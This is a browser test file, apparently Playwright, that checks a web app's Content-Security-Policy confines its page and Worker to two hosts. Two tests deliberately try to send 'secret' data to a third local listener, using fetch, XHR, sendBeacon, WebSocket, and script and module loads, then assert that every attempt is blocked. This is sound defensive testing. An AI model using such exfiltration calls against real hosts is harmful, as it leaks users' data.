/** The page and its Worker talk to exactly two hosts, and the browser enforces it. */
import { expect, test } from './support/test.ts';
import { ALONE } from './support/house.ts';
import { Listener } from './support/listener.ts';

/** The sources of `connect-src` in a response's policy. */
function connectSources(headers: Record<string, string>): string[] {
  const directives = headers['content-security-policy']?.split(';') ?? ['connect-src *'];
  const directive = directives.find((part) => part.trim().startsWith('connect-src '));
  // Without one, `default-src 'none'` holds.
  return directive?.trim().split(/\s+/).slice(1).sort() ?? [];
}

test('the headers of the page, its parts and the Worker name the two hosts and nothing else', async ({ house, join, page }) => {
  const federation = await house.federation(ALONE);
  const below: Record<string, string[]> = {};
  page.on('response', (response) => {
    const path = new URL(response.url()).pathname;
    if (path.startsWith(`/f/${federation.id}/`)) below[path] = connectSources(response.headers());
  });
  await join.open(federation.link);
  expect(page.workers()).toHaveLength(1);
  const worker = new URL(page.workers()[0]?.url() ?? '').pathname;
  const expected = ["'self'", house.model].sort();
  expect(below[`/f/${federation.id}/`]).toEqual(expected);
  const script = await fetch(house.aggregator + worker);
  expect(script.status).toBe(200);
  expect(connectSources(Object.fromEntries(script.headers))).toEqual(expected);
  // Styles and the module run nothing: their policy allows nothing.
  for (const [path, sources] of Object.entries(below)) expect(sources, path).toEqual(/\/$|\.js$/.test(path) ? expected : []);
});

test('whatever the page tries to send to a third host never arrives', async ({ house, join, page }) => {
  const federation = await house.federation(ALONE);
  const third = await Listener.open();
  await join.open(federation.link);
  const tried = await page.evaluate(async (url) => {
    const refused = (promise: Promise<unknown>): Promise<string> => promise.then(() => 'arrived', () => 'refused');
    const socket = refused(new Promise((resolve, reject) => {
      const opened = new WebSocket(url.replace('http', 'ws'));
      opened.onopen = resolve;
      opened.onerror = reject;
    }));
    const image = refused(new Promise((resolve, reject) => {
      const element = new Image();
      element.onload = resolve;
      element.onerror = reject;
      element.src = `${url}/image.png`;
    }));
    const script = refused(new Promise((resolve, reject) => {
      const element = document.createElement('script');
      element.onload = resolve;
      element.onerror = reject;
      element.src = `${url}/script.js`;
      document.head.append(element);
    }));
    const request = refused(new Promise((resolve, reject) => {
      const xhr = new XMLHttpRequest();
      xhr.onload = resolve;
      xhr.onerror = reject;
      xhr.open('POST', `${url}/xhr`);
      xhr.send('secret');
    }));
    navigator.sendBeacon(`${url}/beacon`, 'secret');
    return {
      own: await refused(fetch('/v1/health')),
      fetch: await refused(fetch(`${url}/fetch`, { method: 'POST', body: 'secret' })),
      blind: await refused(fetch(`${url}/blind`, { mode: 'no-cors' })),
      socket: await socket,
      image: await image,
      script: await script,
      request: await request,
    };
  }, third.url);
  expect(tried).toEqual({ own: 'arrived', fetch: 'refused', blind: 'refused', socket: 'refused', image: 'refused', script: 'refused', request: 'refused' });
  // Whatever had been sent would have come before this, which no policy forbids.
  await fetch(`${third.url}/control`);
  expect(third.seen).toEqual(['/control']);
  await third.close();
});

test('whatever the Worker tries to send to a third host never arrives', async ({ house, join, page }) => {
  const federation = await house.federation(ALONE);
  const third = await Listener.open();
  await join.open(federation.link);
  const worker = page.workers()[0];
  if (worker === undefined) throw new Error('the page has no Worker');
  const tried = await worker.evaluate(
    async ({ third, model }) => {
      const refused = (promise: Promise<unknown>): Promise<string> => promise.then(() => 'arrived', () => 'refused');
      const socket = refused(new Promise((resolve, reject) => {
        const opened = new WebSocket(third.replace('http', 'ws'));
        opened.onopen = resolve;
        opened.onerror = reject;
      }));
      return {
        model: await refused(fetch(`${model}/v2/health/ready`)),
        fetch: await refused(fetch(`${third}/fetch`, { method: 'POST', body: 'secret' })),
        blind: await refused(fetch(`${third}/blind`, { mode: 'no-cors', method: 'POST', body: 'secret' })),
        module: await refused(import(`${third}/module.js`)),
        socket: await socket,
      };
    },
    { third: third.url, model: house.model },
  );
  expect(tried).toEqual({ model: 'arrived', fetch: 'refused', blind: 'refused', module: 'refused', socket: 'refused' });
  await fetch(`${third.url}/control`);
  expect(third.seen).toEqual(['/control']);
  await third.close();
});

test('with an own model API, that one is the second host, and the federation’s is not', async ({ house, join, page }) => {
  const federation = await house.federation({ ...ALONE, 'model.url': 'http://127.0.0.1:9' });
  await join.open(federation.link);
  await page.locator('#own-model summary').click();
  await join.id('own-model-url').fill('not an address');
  await join.id('own-model-go').click();
  await expect(page.locator('#own-model-fault')).not.toBeEmpty();
  await join.id('own-model-url').fill(house.model);
  const answered = page.waitForResponse((response) => response.url().includes('/at/'));
  await join.id('own-model-go').click();
  expect(connectSources((await answered).headers())).toEqual(["'self'", house.model].sort());
  await expect(page.locator('#setup')).toBeVisible();
  await join.chooseBuiltin(7, 60);
  await join.start();
  await join.above('delivered', 0);
});
